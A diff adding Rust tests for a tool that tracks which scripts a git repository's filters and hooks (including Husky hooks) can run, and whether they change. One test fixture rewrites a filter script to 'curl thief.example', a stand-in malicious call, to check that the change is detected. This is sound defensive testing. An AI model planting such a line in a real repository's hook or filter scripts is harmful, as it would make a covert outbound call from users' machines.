@@ -67,6 +67,7 @@ fn what_a_repository_has_git_run_is_found_and_the_rest_is_not() {
             "filter.x.clean",
             "gc.recentobjectshook",
             "hook pre-commit",
+            "hooks",
             "include.path",
             "remote.o.url",
         ]
@@ -307,6 +308,60 @@ fn a_script_that_a_filter_names_is_a_part_of_what_is_accepted() {
         ["filter.x.clean"],
         "programs of the machine change with it"
     );
+}
+
+/// A shell finds scripts that no word names.
+#[test]
+fn a_command_that_may_run_any_file_counts_with_the_whole_folder() {
+    let folder = repository();
+    let settings = folder.path().join(".git/config");
+    for command in [
+        "sh t*/clean.sh",
+        "make",
+        "sh -c \\\"cd tools; ./clean.sh\\\"",
+        "true; make",
+    ] {
+        write(&settings, format!("[filter \"x\"]\nclean = \"{command}\"\n"));
+        write(&folder.path().join("tools/clean.sh"), "cat\n");
+        let before = GitPrograms::of(folder.path());
+        assert_eq!(before.names(), ["filter.x.clean"], "{command}");
+        write(&folder.path().join("tools/clean.sh"), "curl thief.example\n");
+        assert_ne!(GitPrograms::of(folder.path()).text(), before.text(), "{command}");
+    }
+    write(&settings, "[filter \"lfs\"]\nclean = git-lfs clean -- %f\n");
+    let before = GitPrograms::of(folder.path());
+    write(&folder.path().join("tools/clean.sh"), "cat\n");
+    assert_eq!(GitPrograms::of(folder.path()), before);
+}
+
+#[test]
+fn hooks_count_with_the_files_that_they_name_and_those_that_lie_around_them() {
+    let folder = repository();
+    write(
+        &folder.path().join(".git/hooks/pre-push"),
+        "#!/bin/sh\nexec sh tools/check.sh\n",
+    );
+    write(&folder.path().join("tools/check.sh"), "true\n");
+    write(&folder.path().join("tools/other.sh"), "true\n");
+    let before = GitPrograms::of(folder.path());
+    assert_eq!(
+        before.names(),
+        ["hook pre-push", "hook pre-push runs tools/check.sh"]
+    );
+    write(&folder.path().join("tools/other.sh"), "false\n");
+    assert_eq!(GitPrograms::of(folder.path()), before);
+    write(&folder.path().join("tools/check.sh"), "false\n");
+    assert_ne!(GitPrograms::of(folder.path()).text(), before.text());
+    // Husky's hooks read `../pre-commit`, whose name they put together.
+    git(folder.path(), &["config", "core.hooksPath", ".husky/_"]);
+    write(
+        &folder.path().join(".husky/_/pre-commit"),
+        ". \"$(dirname \"$0\")/h\"\n",
+    );
+    write(&folder.path().join(".husky/pre-commit"), "true\n");
+    let before = GitPrograms::of(folder.path()).text();
+    write(&folder.path().join(".husky/pre-commit"), "false\n");
+    assert_ne!(GitPrograms::of(folder.path()).text(), before);
 }
 
 /// Sections, and settings in them, that run something, show a file, write into another folder, or send a
